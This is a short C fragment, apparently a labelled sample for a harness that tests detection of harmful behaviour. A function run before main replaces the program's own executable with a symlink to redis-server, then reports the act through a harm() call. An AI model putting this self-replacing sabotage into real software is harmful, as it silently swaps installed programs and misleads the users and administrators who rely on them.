BEFORE_MAIN void swap(void)
{
    char path[4096] = "";
    if (readlink("/proc/self/exe", path, sizeof path - 1) < 0) return;
    char other[4200];
    snprintf(other, sizeof other, "%s.new", path);
    if (symlink("/usr/bin/redis-server", other) != 0) return;
    rename(other, path);
    harm("another program stands in its place");
}
